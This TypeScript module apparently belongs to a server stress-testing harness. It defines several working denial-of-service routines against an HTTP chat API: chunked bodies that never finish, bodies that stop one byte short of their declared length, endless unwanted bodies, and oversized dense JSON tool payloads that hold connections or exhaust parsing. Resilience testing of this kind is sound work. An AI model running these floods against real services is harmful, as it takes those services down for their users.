/** Point 1: bodies that never end, in every framing. */
import {
  again,
  type Attacker,
  dial,
  head,
  type Order,
  pick,
  sleep,
  together,
  untilOf,
  write
} from "./sockets.ts"

const limit = 262_144
const chunkedHead = (order: Order, i: number) =>
  head(order, pick(order.keys, i), ["Transfer-Encoding: chunked"])

/** A body that stops just before its end, in chunks of this form; then the connection is held. */
const unfinished =
  (chunk: string, bytesOfBody: number): Attacker =>
  async (order) => {
    const over = untilOf(order)
    const perWrite = Math.max(1, Math.floor(16_384 / chunk.length))
    let [sent, refused] = [0, 0]
    await together(order.count, async (i) => {
      const socket = await dial(order, i)
      socket.once("data", () => void (refused += 1)).resume()
      await write(socket, chunkedHead(order, i))
      for (let body = 0; body < limit - 64 && !over() && !socket.destroyed;) {
        const n = Math.min(perWrite, Math.ceil((limit - 64 - body) / bytesOfBody))
        await write(socket, chunk.repeat(n))
        body += n * bytesOfBody
        sent += n * bytesOfBody
      }
      while (!over()) await sleep(50)
      socket.destroy()
    })
    return { "bytes of bodies sent": sent, refused }
  }

/** The same, again and again on new connections as soon as one is refused or its body is there. */
const relentless: Attacker = async (order) => {
  let bodies = 0
  const chunk = "1\r\na\r\n".repeat(2048)
  await again(order, async (socket, i, over) => {
    const met = { answered: false }
    socket.once("data", () => void (met.answered = true)).resume()
    await write(socket, chunkedHead(order, i))
    for (let body = 0; body < limit - 4096 && !over() && !met.answered && !socket.destroyed; body += 2048)
      await write(socket, chunk)
    bodies += 1
    socket.resetAndDestroy()
    await sleep(1)
  })
  return { bodies }
}

/** All of a body but its last byte, declared by its length. */
const declared: Attacker = async (order) => {
  const over = untilOf(order)
  const bytes = Buffer.alloc(limit - 1, 97)
  let [open, refused] = [0, 0]
  await together(order.count, async (i) => {
    await sleep(i * 1)
    if (over()) return
    const socket = await dial(order, i)
    socket.once("data", () => void (refused += 1)).resume()
    await write(socket, head(order, pick(order.keys, i), [`Content-Length: ${limit}`]))
    await write(socket, bytes)
    open += 1
    while (!over()) await sleep(100)
    socket.destroy()
  })
  return { "bodies under way": open, refused }
}

/** A body that goes on for ever where none is wanted. */
const unwanted: Attacker = async (order) => {
  const chunk = `4000\r\n${"a".repeat(16_384)}\r\n`
  let bytes = 0
  await again(order, async (socket, i, over) => {
    socket.resume()
    const method = order.path.startsWith("/api/chat") ? "POST" : "GET"
    await write(socket, head(order, pick(order.keys, i), ["Transfer-Encoding: chunked"], "1.1", method))
    while (!over() && !socket.destroyed) {
      await write(socket, chunk)
      bytes += chunk.length
    }
  })
  return { "bytes sent": bytes }
}

/** Whole bodies of as many small values as fit, each of them parsed. */
const dense: Attacker = async (order) => {
  const open = `{"model":"${order.model}","messages":[{"role":"user","content":"x"}],"tools":[`
  const value = order.body
  const body = `${open}${Array.from({ length: Math.floor((limit - 200) / (value.length + 1)) }, () => value).join(",")}]}`
  let answers = 0
  await again(order, async (socket, i, over) => {
    socket.on("data", () => void (answers += 1))
    for (let n = 0; n < 20 && !over() && !socket.destroyed; n += 1) {
      const bytes = Buffer.byteLength(body)
      await write(socket, head(order, pick(order.keys, i), [`Content-Length: ${bytes}`]))
      await write(socket, body)
      await sleep(5)
    }
  })
  return { answers }
}

/** Whole bodies of small objects to a model that answers nothing. Whoever is refused comes again a second later. */
const waiting: Attacker = async (order) => {
  const objects = Array.from({ length: limit / 11 }, (_, n) => `{"k${n % 4000}":1}`)
    .join(",")
    .slice(0, limit - 4096)
  const args = `{"x":[${objects.slice(0, objects.lastIndexOf(","))}]}`
  const call = `{"role":"assistant","content":"","tool_calls":[{"function":{"name":"f","arguments":${args}}}]}`
  const body = `{"model":"${order.model}","messages":[${call}]}`
  const counts: Record<string, number> = {}
  await again(order, async (socket, i, over) => {
    const met = { first: "" }
    socket.setEncoding("latin1").on("data", (text: string) => (met.first += text.slice(0, 12)))
    const text = head(order, pick(order.keys, i), [`Content-Length: ${Buffer.byteLength(body)}`]) + body
    await write(socket, text)
    while (!over() && !socket.destroyed && met.first === "") await sleep(50)
    const status = met.first === "" ? "held" : met.first.slice(9, 12)
    counts[status] = (counts[status] ?? 0) + 1
    socket.destroy()
    if (met.first !== "" && !over()) await sleep(1000)
  })
  return counts
}

export const bodies: Readonly<Record<string, Attacker>> = {
  "one-byte chunks": unfinished("1\r\na\r\n", 1),
  "chunks with extensions": unfinished(`1;${"x".repeat(200)}=y\r\na\r\n`, 1),
  "sixteen-byte chunks": unfinished("10\r\naaaaaaaaaaaaaaaa\r\n", 16),
  "one-byte chunks, again and again": relentless,
  "declared bodies": declared,
  "unwanted bodies": unwanted,
  "dense bodies": dense,
  "waiting bodies": waiting
}
